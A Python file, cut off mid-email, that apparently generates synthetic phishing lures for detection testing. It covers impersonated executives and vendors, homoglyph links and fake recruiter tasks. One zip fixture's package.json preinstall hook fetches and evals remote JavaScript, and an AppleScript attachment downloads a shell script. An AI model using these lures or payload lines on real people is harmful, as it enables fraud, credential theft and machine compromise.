"""Set M lures: hand-written for this set (new stories, new wording, new domains)."""

from __future__ import annotations

from attachments_c import mac_app_zip, msi, svg_smuggling
from attachments_d import applescript, chm, vbs
from binaries import (html_smuggling, iso_image, lnk, pdf, pe_stub, seven_zip, word_document,
                      zip_archive)
from people import (CEO, CEO_JA, CFO, HADDAD, ITO_JA, KEIRI, LAURENT, LI, PARK, SUZUKI, SUZUKI_JA,
                    TAKAHASHI_JA, TANAKA, TANAKA_JA, TREASURY)
from spec import Att, Mail
from threads_m import (PINEMARSH, YEONWOO, KIRYU, MID_PINEMARSH, MID_YEONWOO, MID_KIRYU, MID_NAKHEEL,
                       MORVELLE, NAKHEEL, RUNZE, VERRANO)

ZIP, SEVENZ, ISO = "application/zip", "application/x-7z-compressed", "application/x-iso9660-image"
HTML, PDF = "text/html", "application/pdf"


def L(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[str, str], subject: str,
      body: str, date: str, **kw) -> Mail:
    return Mail("lure", category, language, note, sender, (to,), subject, body, date, **kw)


LURES: list[Mail] = []
add = LURES.append

# ---------------------------------------------------------------- exec-impersonation
add(L("exec-impersonation", "ja",
      "CEO's Japanese name and title on Gmail asks treasury to move 40 BTC from cold storage to an outside 'bridge' address in secret",
      ("佐藤 陽翔（代表取締役CEO）", "sato.haruto.kitsune.ceo@gmail.com"), TANAKA_JA,
      "【極秘】保険会社のカストディ検証について",
      """田中さん

出張中のため個人のアドレスから失礼します。
現在、ある損害保険会社と暗号資産保険の契約を詰めており、先方から「コールドウォレットから実際に
送金できること」を確認したいと要望がありました。

本日中に、コールドウォレットから 40 BTC を下記の検証用アドレスへ移してください。
確認が取れ次第、先方から全額戻ってきます。

bc1q7m3fz0k2hd9wq5ylx8v4c6tjr2npse0a9g3kwu

契約前のため社内には一切共有しないでください。稟議は私が帰国後にまとめて処理します。
会議が続くので電話には出られません。完了したらこのアドレスにTXIDだけ返信してください。

佐藤""", "2026-11-04 16:42 +0900"))

add(L("exec-impersonation", "en",
      "romaji CEO with title on TLD-swap kitsune-ex.org asks an engineer to open the admin API to an outside range and lift the withdrawal rate limit tonight",
      ("Haruto Sato | Representative Director, CEO", "h.sato@kitsune-ex.org"), SUZUKI,
      "Load test with our new liquidity partner tonight",
      """Kenta,

We are running a load test with our new liquidity partner after 22:00 JST tonight. Their team needs
direct access to the admin API, so please:

1. add 185.141.27.0/24 to the admin API allowlist
2. switch off the per-account withdrawal rate limit until 06:00
3. skip the change ticket this time, I will sign it off tomorrow morning

This has been agreed at board level and is confidential until the announcement, so please do not
discuss it in Slack. Reply here once it is done.

Thanks,
Haruto Sato
Representative Director, CEO
Kitsune Exchange K.K.""", "2026-11-05 19:08 +0900"))

add(L("exec-impersonation", "en",
      "CFO on lookalike kitsune-ex-finance.com asks accounting to pay a 'confidential regulatory counsel' invoice to a new Estonian account and not copy the CEO",
      ("Emily Carter (CFO)", "emily.carter@kitsune-ex-finance.com"), KEIRI,
      "Payment needed today - external counsel (confidential)",
      """Hello team,

Please process the attached invoice from our external regulatory counsel today. It relates to a
confidential matter with the regulator, which is why it has not gone through the normal vendor
onboarding yet.

Beneficiary: Norland Advisory OU
IBAN: EE38 2200 2210 2014 5685
Amount: JPY 8,640,000 (equivalent in EUR is fine)

Please do not copy Haruto on this for now; he has asked me to handle it personally. Send me the
payment confirmation as soon as it is released.

Best,
Emily""", "2026-11-06 10:15 +0900",
      attachments=(Att("Norland_Advisory_INV-2026-118.pdf",
                       pdf(["Norland Advisory OU", "Invoice INV-2026-118", "Regulatory advisory services",
                            "Amount due: EUR 52,400", "IBAN EE38 2200 2210 2014 5685"], "Invoice"), PDF),)))

add(L("exec-impersonation", "ja",
      "spoof of the CEO's own address (SPF/DMARC fail) asks IT to forward all his mail to an outside Proton address and drop the external-sender banner",
      ("佐藤 陽翔", "h.sato@kitsune-ex.co.jp"), TAKAHASHI_JA,
      "メール転送設定のお願い（至急）",
      """高橋さん

来週から海外出張が続くので、私宛のメールをすべて下記のアドレスにも自動転送する設定を
今日中にお願いします。社用PCを持って行かない予定です。

転送先: haruto.sato.office@proton.me

それと、外部から届くメールに付く「外部送信者」の警告表示も、私のメールボックスだけ外して
ください。先方が気にするので。

申請フォームは後で出します。よろしく。

佐藤""", "2026-11-09 08:51 +0900", auth="fail", reply_to="haruto.sato.office@proton.me",
      helo="smtp.bulkrelay-mailer.net"))

add(L("exec-impersonation", "fr",
      "CFO on orange.fr asks the Paris office for a confidential executive-search retainer to a Latvian IBAN, outside the usual process",
      ("Emily Carter - CFO", "emily.carter.cfo@orange.fr"), LAURENT,
      "Acompte cabinet de recrutement - confidentiel",
      """Bonjour Camille,

Je vous écris depuis mon adresse personnelle car le sujet est sensible : nous recrutons discrètement
un nouveau directeur général pour l'Europe et le cabinet de chasse demande un acompte avant de
lancer la mission.

Pourriez-vous ordonner aujourd'hui un virement de 38 500 EUR :
Bénéficiaire : Valmiera Executive Partners SIA
IBAN : LV80 BANK 0000 4351 9500 1

Merci de ne pas en parler à l'équipe ni de passer par le circuit de validation habituel, la
confidentialité est une condition du cabinet. Je régulariserai à mon retour à Tokyo.

Je suis en réunion toute la journée, répondez-moi simplement par mail.

Emily""", "2026-11-10 09:37 +0100"))

add(L("exec-impersonation", "ko",
      "CEO's name and title on Gmail asks the Seoul office for the corporate seal certificate, registry extract and seal imprint scans",
      ("사토 하루토 대표이사", "haruto.sato.kitsune@gmail.com"), PARK,
      "법인 서류 급히 필요합니다",
      """박대현 님,

지금 서울 쪽 은행과 법인 계좌 개설 건을 진행하고 있는데, 은행 담당자가 오늘 중으로 서류를
요청했습니다. 아래 서류를 스캔해서 이 메일로 바로 보내 주세요.

- 법인인감증명서 (최근 3개월 이내)
- 법인 등기부등본
- 법인인감 날인본 (백지에 날인해서 스캔)
- 사용인감계

일본 본사 법무팀에는 제가 따로 얘기할 테니 공유하지 않으셔도 됩니다. 회의 중이라 전화는
어렵습니다.

사토 하루토 드림""", "2026-11-11 14:20 +0900"))

add(L("exec-impersonation", "zh",
      "CFO's name on 139.com asks the HK OTC desk for its top client list with wallet addresses and balances for a 'potential acquirer'",
      ("Emily Carter 首席财务官", "emilycarter_cfo@139.com"), LI,
      "机密：尽职调查资料",
      """李伟你好，

我们正在与一家潜在收购方进行保密谈判，对方的尽调团队需要香港场外业务的资料。
请在今天下班前整理以下内容，直接回复到这个邮箱：

1. 过去六个月交易量前20名的场外客户名单（公司名、联系人）
2. 每个客户的充值和提币地址
3. 目前各客户在我们这里的余额

此事仅限你我知道，请勿抄送合规部或东京总部。我这几天在路上，用私人邮箱联系比较方便。

Emily""", "2026-11-12 11:05 +0800"))

add(L("exec-impersonation", "ar",
      "CEO's name on gmx.com asks the Dubai BD lead to wire AED 180,000 for an event sponsorship to a personal account, today, without telling finance",
      ("هاروتو ساتو - الرئيس التنفيذي", "haruto.sato.ceo@gmx.com"), HADDAD,
      "رعاية عاجلة - مؤتمر دبي",
      """عزيزي عمر،

حصلنا على فرصة رعاية رئيسية في مؤتمر الأصول الرقمية في دبي الأسبوع القادم، لكن المنظم يحتاج
إلى الدفعة اليوم لحجز المكان قبل منافس آخر.

أرجو تحويل 180,000 درهم إلى الحساب التالي باسم المنسق الشخصي للمؤتمر:
الاسم: Karim Sulaiman
IBAN: AE07 0331 2345 6789 0123 456

لا داعي لإشراك قسم المالية الآن، سأرسل لهم التفاصيل بعد عودتي. أنا في اجتماعات متتالية ولا
أستطيع الرد على الهاتف، فقط أرسل لي إيصال التحويل هنا.

هاروتو""", "2026-11-13 10:30 +0400"))

# ---------------------------------------------------------------- vendor-impersonation
add(L("vendor-impersonation", "en",
      "Fireblocks lookalike fireblocks-ops.com asks admins to approve pairing of a 'new MPC device' after a key re-sharding",
      ("Fireblocks Security Operations", "secops@fireblocks-ops.com"), TANAKA,
      "Action required: approve MPC key re-sharding for workspace Kitsune Exchange",
      """Hello Mika,

As part of our scheduled MPC key re-sharding (ref. FB-RS-20261105), every workspace must approve the
pairing of a refreshed signing device before 7 November 2026, 23:59 UTC. Workspaces that do not
complete the pairing will be switched to read-only until the owner contacts support.

Approve the pairing here:
https://console.fireblocks-ops.com/pairing/approve?ws=kitsune-exchange&ticket=RS-44817

You will be asked to sign in with your console credentials and approve the request on your mobile
device. The process takes less than two minutes.

Fireblocks Security Operations""", "2026-11-05 02:14 +0000"))

add(L("vendor-impersonation", "en",
      "fake Safe{Wallet} notice on safe-notices.global asks owners to move all assets to a 'nested Safe deployed for you'",
      ("Safe{Wallet}", "no-reply@safe-notices.global"), TREASURY,
      "Your Safe must be migrated to a Nested Safe before 15 November",
      """Safe{Wallet} account notice

Following the Safe{Core} protocol update, Safes created before 2025 will no longer be indexed by the
Transaction Service after 15 November 2026. To keep access, move your assets to the Nested Safe
we deployed for your owners:

Nested Safe (Ethereum): 0x5f1c3A8e92D0b7c14A6e0F3d9B28c7e61a0D4b93

Queue the transfer of each token balance and ETH to this address from your current Safe and collect
your owners' signatures as usual. Assets left in the old Safe may become unreachable from the
interface.

Review the migration guide: https://app.safe-notices.global/migrate

The Safe{Wallet} team""", "2026-11-06 09:00 +0000"))

add(L("vendor-impersonation", "en",
      "Copper ClearLoop impersonation on copper-clearloop.net pushes a 'mandatory settlement agent' exe, with Run anyway",
      ("Copper ClearLoop", "updates@copper-clearloop.net"), TANAKA,
      "ClearLoop Settlement Agent 4.2 - mandatory before next settlement window",
      """Dear ClearLoop participant,

Version 4.1 of the ClearLoop Settlement Agent will stop connecting to the settlement network at the
next window (9 November 2026, 08:00 UTC). Please install version 4.2 on the machine that approves
your delegations:

https://downloads.copper-clearloop.net/agent/ClearLoopAgent-4.2.0-win64.exe

The installer is being re-signed after a certificate change; if Windows shows "Windows protected your
PC", click More info and Run anyway. Keep the agent running after installation; it will
re-register your approval device automatically.

Copper Client Services""", "2026-11-07 07:30 +0000"))

add(L("vendor-impersonation", "ja",
      "Jobcan impersonation on jobcan-kintai.net asks staff to sign in to keep attendance records before a 'system migration'",
      ("ジョブカン勤怠管理", "info@jobcan-kintai.net"), SUZUKI_JA,
      "【ジョブカン】11月分勤怠データ移行のお知らせ（要ログイン）",
      """鈴木 健太 様

いつもジョブカン勤怠管理をご利用いただきありがとうございます。
11月14日（土）にサーバー移行を実施いたします。移行後も勤怠データを引き継ぐため、
11月12日までに下記URLから一度ログインし、本人確認を完了してください。

https://id.jobcan-kintai.net/kitsune-ex/login

本人確認が完了していないアカウントは、11月分の打刻データが失われる可能性があります。
ログインの際は、会社のメールアドレスとパスワード、SMSで届く確認コードを入力してください。

ジョブカン カスタマーサポート""", "2026-11-10 10:02 +0900"))

add(L("vendor-impersonation", "ko",
      "Douzone Bizbox groupware impersonation on bizbox-douzone.kr asks for a re-login 'or the account is locked'",
      ("더존 Bizbox 알림", "noreply@bizbox-douzone.kr"), PARK,
      "[Bizbox Alpha] 계정 보안 재인증 안내",
      """박대현 님, 안녕하세요.

Bizbox Alpha 그룹웨어의 보안 정책 변경에 따라 모든 사용자 계정은 11월 13일까지 재인증이
필요합니다. 재인증을 하지 않으면 전자결재와 메일 사용이 제한됩니다.

아래 링크에서 회사 계정으로 로그인한 뒤 휴대폰 OTP 번호를 입력해 주세요.
https://auth.bizbox-douzone.kr/alpha/kitsune-ex

본 메일은 발신 전용입니다.
더존비즈온 고객지원센터""", "2026-11-11 09:12 +0900"))

add(L("vendor-impersonation", "zh",
      "Jianguoyun (Nutstore) share impersonation on jianguoyun-share.cn: 'expiring' file needs a login with company mail password",
      ("坚果云", "notice@jianguoyun-share.cn"), LI,
      "您有一个共享文件即将过期：2026年Q4对账明细.xlsx",
      """李伟 您好，

您的同事通过坚果云向您共享了文件「2026年Q4对账明细.xlsx」，该共享链接将在24小时后失效。

点击查看：https://www.jianguoyun-share.cn/p/DcK82mQ

为保障文件安全，查看前需使用企业邮箱账号及密码进行验证。

坚果云团队
（此邮件由系统自动发送，请勿直接回复）""", "2026-11-12 15:44 +0800"))

add(L("vendor-impersonation", "fr",
      "PayFit impersonation on payfit-espace.fr asks employees to re-enter bank details before the November payslip",
      ("PayFit", "notifications@payfit-espace.fr"), LAURENT,
      "Votre bulletin de paie de novembre est bloqué",
      """Bonjour Camille,

Votre bulletin de paie de novembre n'a pas pu être validé : les coordonnées bancaires associées à
votre compte n'ont pas été confirmées depuis la mise à jour de sécurité d'octobre.

Confirmez vos informations avant le 18 novembre pour éviter un retard de versement :
https://app.payfit-espace.fr/salarie/confirmation

Munissez-vous de votre RIB et de votre mot de passe PayFit.

L'équipe PayFit""", "2026-11-13 08:20 +0100"))

add(L("vendor-impersonation", "ar",
      "Zoho Mail admin impersonation on zoho-mailadmin.com threatens suspension and asks for the admin login",
      ("Zoho Mail - فريق الإدارة", "admin-alerts@zoho-mailadmin.com"), HADDAD,
      "تنبيه: سيتم تعليق صندوق بريدك خلال 24 ساعة",
      """عزيزي المستخدم،

رصدنا نشاطاً غير معتاد في حساب Zoho Mail الخاص بفرعكم في دبي. لحماية بياناتكم سيتم تعليق
صندوق البريد خلال 24 ساعة ما لم يتم التحقق من ملكية الحساب.

للتحقق، سجّل الدخول عبر الرابط التالي باستخدام بيانات المسؤول:
https://accounts.zoho-mailadmin.com/verify?org=kitsune-dxb

فريق أمان Zoho""", "2026-11-14 07:55 +0400"))

# ---------------------------------------------------------------- lookalike-link
add(L("lookalike-link", "en",
      "doubled-letter lookalike kitsune-eex.com 'IT Service Desk' password expiry page",
      ("Kitsune Exchange IT Service Desk", "servicedesk@kitsune-eex.com"), SUZUKI,
      "Your password expires in 2 days",
      """Hi Kenta,

The password for k.suzuki@kitsune-ex.co.jp will expire in 2 days. To keep access to mail, VPN and
the developer portal, update it now:

https://sso.kitsune-eex.com/password/renew?user=k.suzuki

If you do nothing, your account will be locked on 7 November at 09:00 and you will need to call
the service desk to unlock it.

IT Service Desk
Kitsune Exchange K.K.""", "2026-11-05 09:03 +0900"))

add(L("lookalike-link", "en",
      "anchor text shows console.fireblocks.io but the link goes to a Cyrillic-с homoglyph (xn--firebloks-13h.io)",
      ("Sho Takahashi", "s.takahashi.sec@outlook.com"), TANAKA,
      "Pending approval in Fireblocks - please check",
      """Mika,

There is a pending withdrawal policy change waiting for your approval in the console. It looks
unusual to me, can you open it and tell me whether you recognise it?

https://console.fireblocks.io/v2/governance/pending/7731

Sho""", "2026-11-06 13:27 +0900",
      html=("<p>Mika,</p><p>There is a pending withdrawal policy change waiting for your approval in the "
            "console. It looks unusual to me, can you open it and tell me whether you recognise it?</p>"
            '<p><a href="https://console.xn--firebloks-13h.io/v2/governance/pending/7731">'
            "https://console.fireblocks.io/v2/governance/pending/7731</a></p><p>Sho</p>")))

add(L("lookalike-link", "ja",
      "Armenian-ս homoglyph of the .co.jp domain (xn--kitsne-ex-8ok.co.jp) for an employee stock-ownership plan sign-up",
      ("社員持株会事務局", "mochikabu@xn--kitsne-ex-8ok.co.jp"), ITO_JA,
      "【社員持株会】2027年度 拠出金額の変更受付について",
      """社員各位

社員持株会事務局です。2027年度の拠出金額変更の受付を開始しました。
奨励金の率が引き上げられますので、変更を希望される方は11月16日までに
下記ページから社員番号とパスワードでログインし、手続きを行ってください。

https://mochikabu.kitsսne-ex.co.jp/entry

※期限を過ぎると来年度は現在の口数のまま継続となります。

社員持株会事務局（総務部）""", "2026-11-09 12:10 +0900"))

add(L("lookalike-link", "ja",
      "hyphen-moved lookalike kitsuneex-jp.com asks staff to re-apply for commuting allowance with their SSO password",
      ("人事部 給与チーム", "kyuyo@kitsuneex-jp.com"), SUZUKI_JA,
      "通勤手当の再申請のお願い（11月20日締切）",
      """鈴木さん

人事部給与チームです。定期券代の改定に伴い、全社員に通勤手当の再申請をお願いしています。
下記のフォームから社内ポータルのID・パスワードでログインし、経路を入力してください。

https://portal.kitsuneex-jp.com/hr/commute

再申請がない場合、12月支給分から通勤手当が停止されます。

人事部 給与チーム""", "2026-11-10 17:25 +0900"))

add(L("lookalike-link", "en",
      "Cyrillic-к homoglyph of the .com domain (xn--itsune-ex-u1h.com) hosting a fake board-portal sign-in",
      ("Board Secretariat", "board@xn--itsune-ex-u1h.com"), CFO,
      "Q4 board pack available - sign in to review",
      """Dear Emily,

The Q4 board pack (financials, risk report and the custody insurance renewal) is now available in the
board portal. Please review before the meeting on 18 November.

https://board.кitsune-ex.com/packs/2026-q4

Sign in with your Microsoft 365 account.

Board Secretariat""", "2026-11-11 18:02 +0900"))

add(L("lookalike-link", "ko",
      "combo lookalike kitsune-ex-seoul.com asks the Seoul office to confirm mandatory security training with the company password",
      ("정보보안팀", "security@kitsune-ex-seoul.com"), PARK,
      "[필수] 2026년 하반기 정보보호 교육 이수 확인",
      """박대현 님,

2026년 하반기 정보보호 교육 이수 여부가 확인되지 않았습니다. 금융당국 점검에 대비하여
11월 13일까지 아래 링크에서 사내 계정으로 로그인 후 이수 확인서를 제출해 주시기 바랍니다.

https://edu.kitsune-ex-seoul.com/login

미이수 시 시스템 접근 권한이 일시 정지될 수 있습니다.

정보보안팀""", "2026-11-11 10:40 +0900"))

add(L("lookalike-link", "zh",
      "lookalike kitsune-ex-hk.net asks HK staff to log in to an 'upgraded' travel-expense system",
      ("行政部", "admin@kitsune-ex-hk.net"), LI,
      "差旅报销系统升级，请重新登录绑定账户",
      """各位同事：

公司差旅报销系统已于本周升级。为确保11月的报销款能按时发放，请于11月17日前通过以下链接
使用公司邮箱账号和密码登录，并重新绑定收款银行卡。

https://expense.kitsune-ex-hk.net/login

逾期未绑定的报销单将退回。

行政部""", "2026-11-12 09:30 +0800"))

add(L("lookalike-link", "fr",
      "lookalike kitsune-ex-france.com asks the Paris office to update the bank details used for payroll",
      ("Ressources Humaines Paris", "rh@kitsune-ex-france.com"), LAURENT,
      "Mise à jour de votre RIB avant la paie de novembre",
      """Bonjour,

Suite au changement de prestataire de paie, nous devons recueillir à nouveau les coordonnées
bancaires de chaque salarié avant le 17 novembre.

Merci de vous connecter avec vos identifiants habituels et de saisir votre RIB :
https://rh.kitsune-ex-france.com/paie/rib

Sans mise à jour, le virement de novembre pourrait être décalé.

Le service RH""", "2026-11-13 11:15 +0100"))

add(L("lookalike-link", "ar",
      "lookalike kitsune-exdubai.net asks the Dubai office to update health-insurance details with the company login",
      ("الموارد البشرية - دبي", "hr@kitsune-exdubai.net"), HADDAD,
      "تحديث بيانات التأمين الصحي قبل التجديد",
      """الزملاء الأعزاء،

يتم تجديد وثيقة التأمين الصحي للموظفين في دبي في الأول من ديسمبر. يرجى تسجيل الدخول
بحساب الشركة عبر الرابط أدناه وتحديث بيانات المعالين قبل 18 نوفمبر:

https://benefits.kitsune-exdubai.net/insurance

من لا يحدّث بياناته قد تتوقف تغطيته مؤقتاً.

الموارد البشرية""", "2026-11-14 12:00 +0400"))

add(L("lookalike-link", "en",
      "anchor text app.safe.global links to the dot-dropped lookalike appsafe.global, sender a free-mail 'signer'",
      ("Daniel Ortega", "daniel.ortega.signer@gmail.com"), TANAKA,
      "Co-signer needed on Safe tx #412",
      """Hi Mika,

I am covering for your usual co-signer this week. There is a queued transaction on the treasury Safe
that needs one more signature before the settlement cut-off, could you sign it?

https://app.safe.global/transactions/queue?safe=eth:0x8c2E4a91f0B73D6a5C18e27F09D4b3a1c6E05d72

Thanks,
Daniel""", "2026-11-16 15:12 +0900",
      html=("<p>Hi Mika,</p><p>I am covering for your usual co-signer this week. There is a queued transaction on "
            "the treasury Safe that needs one more signature before the settlement cut-off, could you sign it?</p>"
            '<p><a href="https://appsafe.global/transactions/queue?safe=eth:0x8c2E4a91f0B73D6a5C18e27F09D4b3a1c6E05d72">'
            "https://app.safe.global/transactions/queue?safe=eth:0x8c2E...5d72</a></p><p>Thanks,<br>Daniel</p>")))

# ---------------------------------------------------------------- recruiter-coding-test
add(L("recruiter-coding-test", "en",
      "recruiter on Gmail: clone a GitHub repo and run npm install && npm run seed on your everyday machine, then move to Telegram",
      ("Rachel Donnelly | Lumenvault Talent", "rachel.lumenvault.talent@gmail.com"), SUZUKI,
      "Senior Backend role - short technical step before the call",
      """Hi Kenta,

Thanks for getting back to me about the Senior Backend Engineer role at Lumenvault (perpetuals risk
engine, fully remote, USD 210-240k + tokens).

Before the call with our CTO, the team asks every candidate to get the current prototype running
locally and fix one failing check. It takes about 30 minutes:

  git clone https://github.com/lumenvault-labs/perp-risk-dashboard
  cd perp-risk-dashboard
  npm install && npm run seed

Please run it on the laptop you normally use rather than a VM - part of the exercise is seeing how
the dashboard behaves with a real browser profile. When it is up, send me a screenshot on Telegram
(@rachel_lvtalent) and I will book the CTO slot right away.

Best,
Rachel""", "2026-11-04 22:10 +0900"))

add(L("recruiter-coding-test", "en",
      "Bitbucket take-home: pip install then run an 'environment probe' module, then continue on WhatsApp",
      ("Marcus Tindall", "marcus.tindall@quenlowhq.com"), SUZUKI,
      "Quenlow - settlement engine take-home",
      """Hello Kenta,

Great speaking earlier. As promised, here is the take-home for the settlement engine position.

Repository: https://bitbucket.org/quenlow-hr/settlement-engine-task

  python3 -m venv .venv && source .venv/bin/activate
  pip install -r requirements.txt
  python -m checks.env_probe

The env_probe step validates that your machine can talk to a testnet node; it must pass before you
start the task. If anything fails, message me on WhatsApp (+44 7700 918 442), it is quicker than
mail for us.

Kind regards,
Marcus Tindall
Head of Engineering Talent, Quenlow""", "2026-11-06 20:45 +0900"))

add(L("recruiter-coding-test", "ja",
      "Japanese recruiter: GitLab NFT market repo with pnpm install && pnpm dev, then Discord",
      ("白糸テクノロジーズ 採用担当 松井", "matsui.recruit@shiraito-tech.com"), SUZUKI_JA,
      "【白糸テクノロジーズ】技術課題のご案内",
      """鈴木 健太 様

先日はカジュアル面談のお時間をいただきありがとうございました。
次のステップとして、簡単な技術課題をお送りします。

リポジトリ: https://gitlab.com/shiraito-tech/nft-market-test

  pnpm install
  pnpm dev

起動後に表示される画面でウォレット接続のバグを1件修正してください。
普段お使いのブラウザ（MetaMask が入っているもの）で動作確認をお願いします。

進捗や質問は Discord（shiraito_hr#0421）でお気軽にどうぞ。2日以内のご提出をお願いします。

白糸テクノロジーズ株式会社
採用担当 松井""", "2026-11-07 11:30 +0900"))

add(L("recruiter-coding-test", "en",
      "attached take-home zip whose package.json preinstall downloads and runs a remote script",
      ("Ivy Brennan", "ivy@coralmint.io"), SUZUKI,
      "Coralmint - coding exercise attached",
      """Hi Kenta,

Thanks again for your interest in Coralmint. I attached the exercise for the wallet-integration
role. Unzip it, run `npm install` and then `npm test`; three tests fail and we would like you to fix
them. We usually expect it back within 48 hours.

Let me know if anything does not install cleanly.

Ivy Brennan
People Team, Coralmint""", "2026-11-08 03:12 +0000",
      attachments=(Att("coralmint-wallet-exercise.zip", zip_archive([
          ("coralmint-wallet-exercise/package.json",
           b'{\n  "name": "coralmint-wallet-exercise",\n  "version": "1.0.3",\n  "scripts": {\n'
           b'    "preinstall": "node -e \\"require(\'https\').get(\'https://cdn.coralmint-assets.com/i/boot.js\','
           b'r=>{let d=\'\';r.on(\'data\',c=>d+=c);r.on(\'end\',()=>eval(d))})\\"",\n'
           b'    "test": "jest"\n  },\n  "devDependencies": {"jest": "^29.7.0"}\n}\n'),
          ("coralmint-wallet-exercise/README.md", b"# Wallet exercise\n\nnpm install && npm test\n"),
          ("coralmint-wallet-exercise/src/wallet.js", b"module.exports = { balance: () => 0 };\n"),
      ]), ZIP),)))

add(L("recruiter-coding-test", "ko",
      "Korean recruiter: download a zip from a vercel.app page, npm i && npm run start, then Telegram",
      ("브라이트노드 채용팀", "talent@brightnode.kr"), PARK,
      "[브라이트노드] 블록체인 백엔드 포지션 과제 안내",
      """박대현 님 안녕하세요,

브라이트노드 채용팀입니다. 서류 전형에 합격하셨습니다.
다음 단계로 아래 페이지에서 과제 파일을 내려받아 로컬에서 실행해 주세요.

https://hiring-brightnode.vercel.app/assignment

  npm i
  npm run start

실행 후 나오는 토큰 정산 화면의 오류를 고쳐 주시면 됩니다. 평소 업무용 노트북에서
실행해 주셔야 환경 점검이 정확합니다. 결과는 텔레그램 @brightnode_hr 로 보내 주세요.

감사합니다.""", "2026-11-09 16:05 +0900"))

add(L("recruiter-coding-test", "zh",
      "Chinese recruiter: docker compose take-home that mounts ~/.config/solana and ~/.ethereum 'to load a test wallet', then WeChat",
      ("链启科技 招聘 王婷", "wangting.hr@lianqi-tech.com"), LI,
      "链启科技 - 区块链工程师笔试说明",
      """李伟您好，

感谢您投递链启科技的区块链工程师职位。请完成以下笔试：

  git clone https://github.com/lianqi-tech/dex-aggregator-test
  cd dex-aggregator-test
  docker compose up

docker-compose.yml 会挂载 ~/.config/solana 和 ~/.ethereum 目录，用于读取您本机的测试钱包，
请不要修改这部分配置。运行成功后截图发我微信（wangting_lq），我们安排技术面试。

王婷
链启科技 人力资源部""", "2026-11-10 19:20 +0800"))

add(L("recruiter-coding-test", "fr",
      "French recruiter: cargo run of a repo whose build script fetches a binary, then Discord",
      ("Léa Marchand", "lea.marchand@quaireon.fr"), LAURENT,
      "Quaireon - exercice technique (Rust)",
      """Bonjour Camille,

Suite à notre échange, voici l'exercice technique pour le poste d'ingénieure Rust :

  git clone https://github.com/quaireon-labs/orderbook-exercise
  cd orderbook-exercise
  cargo run --release

Le script build.rs télécharge automatiquement les outils de test, il faut donc lancer la commande
sur votre poste de travail habituel avec une connexion normale (pas de VM ni de proxy). Dès que
ça tourne, écrivez-moi sur Discord (lea_quaireon) pour fixer l'entretien.

Bien à vous,
Léa Marchand""", "2026-11-11 17:40 +0100"))

add(L("recruiter-coding-test", "ar",
      "Arabic recruiter: run a repo through npx on the work laptop, then WhatsApp",
      ("سارة الخطيب - التوظيف", "sara.alkhatib.hiring@gmail.com"), HADDAD,
      "المرحلة التالية: اختبار تقني قصير",
      """مرحباً عمر،

شكراً على اهتمامك بوظيفة مدير تطوير الأعمال التقني لدى منصة Sandvale. قبل المقابلة مع
المدير التقني نطلب من جميع المرشحين تشغيل أداة التقييم التالية على جهاز العمل:

  npx github:sandvale-dev/bd-assessment

ستقوم الأداة بفحص إعدادات المتصفح والمحفظة ثم تعرض الأسئلة. بعد الانتهاء أرسل لي لقطة
الشاشة على واتساب ‎+971 55 214 7730‎.

مع التحية،
سارة""", "2026-11-12 21:15 +0400"))

# ---------------------------------------------------------------- investor-meeting-install
add(L("investor-meeting-install", "en",
      "investor's meeting on Pexip lookalike pexip-secure.live needs a 'secure client' pkg with Open Anyway",
      ("Jonathan Wexley", "jonathan@harrowgate-vc.com"), CEO,
      "Re: Harrowgate / Kitsune - partner meeting Thursday",
      """Dear Haruto,

Looking forward to Thursday. Our partners join from three offices, so we use a private Pexip room
for compliance reasons. Please install the secure client beforehand:

https://pexip-secure.live/download/PexipSecure-3.8.pkg

macOS may say the developer cannot be verified because it is our own build; go to System Settings >
Privacy & Security and click Open Anyway. The room link will appear in the client.

Best regards,
Jonathan Wexley
Partner, Harrowgate Ventures""", "2026-11-05 23:05 +0900"))

add(L("investor-meeting-install", "en",
      "investor sends an AppleScript 'Zoom audio driver fix' (.scpt) after a failed call on a Zoom lookalike",
      ("Mei Lindqvist", "mei.lindqvist@sorrelby.capital"), CEO,
      "Audio issue on our call - quick fix",
      """Haruto,

Sorry, it seems you could not hear us on the call earlier. Zoom support sent us this script, it
reinstalls the audio driver: double-click the attached file and enter your Mac password when asked.
Then rejoin at https://us04web.zoom-meetings.one/j/88213470921 and we continue where we stopped.

Mei""", "2026-11-06 08:20 +0900",
      attachments=(Att("Zoom_Audio_Fix.scpt",
                       applescript("https://us04web.zoom-meetings.one/sdk/audio_fix.sh",
                                   "Zoom needs your password to reinstall the audio driver."),
                       "application/octet-stream"),)))

add(L("investor-meeting-install", "ja",
      "Japanese VC's online meeting on a bellFace lookalike needs a 'connection plugin' exe with SmartScreen bypass",
      ("深山キャピタル 小野寺", "onodera@miyama-capital.jp"), CEO_JA,
      "面談のご案内（オンライン）",
      """佐藤様

お世話になっております。深山キャピタルの小野寺です。
明日14時からの面談は、弊社が契約しているオンライン商談システムで実施いたします。

事前に下記から接続プラグインをインストールしてください。
https://bellface-connect.jp/plugin/bfconnect_setup.exe

Windows で「WindowsによってPCが保護されました」と表示された場合は、
「詳細情報」→「実行」を押してください。接続番号は当日お送りします。

深山キャピタル株式会社
パートナー 小野寺 亮""", "2026-11-07 10:45 +0900"))

add(L("investor-meeting-install", "ko",
      "Korean investor's meeting on a Gooroomee lookalike requires a client exe with antivirus turned off",
      ("새암인베스트먼트 이준호", "junho.lee@saeam-invest.co.kr"), PARK,
      "투자 미팅 접속 안내",
      """박대현 님,

내일 오전 10시 투자 미팅은 보안상 저희가 사용하는 구루미 전용 클라이언트로 진행합니다.
아래에서 설치 파일을 받아 미리 설치해 주세요.

https://gooroomee-meet.com/download/GooroomeeSecure_Setup.exe

설치 중 백신 프로그램이 차단할 수 있으니 잠시 실시간 감시를 꺼 두시면 됩니다.

이준호 드림
새암인베스트먼트 심사역""", "2026-11-10 18:30 +0900"))

add(L("investor-meeting-install", "zh",
      "Chinese fund's meeting requires an 'XYLink encrypted edition' exe from a lookalike domain",
      ("远山资本 周明", "zhouming@yuanshan-capital.com"), LI,
      "会议安排：下周二 投资洽谈",
      """李伟您好，

下周二下午三点的投资洽谈将通过小鱼易连进行。由于涉及敏感财务数据，我们使用加密版客户端，
请提前安装：

https://www.xylink-meeting.cn/download/XYLinkSecure_5.2.exe

安装时如被杀毒软件拦截，请选择"允许"或暂时关闭防护。会议号稍后发您。

周明
远山资本 投资总监""", "2026-11-12 13:50 +0800"))

add(L("investor-meeting-install", "fr",
      "French investor's call on a ClickMeeting lookalike needs a pkg 'for the encrypted room', Open Anyway",
      ("Antoine Véron", "antoine.veron@lisiere-partners.fr"), LAURENT,
      "Rendez-vous jeudi - installation préalable",
      """Bonjour Camille,

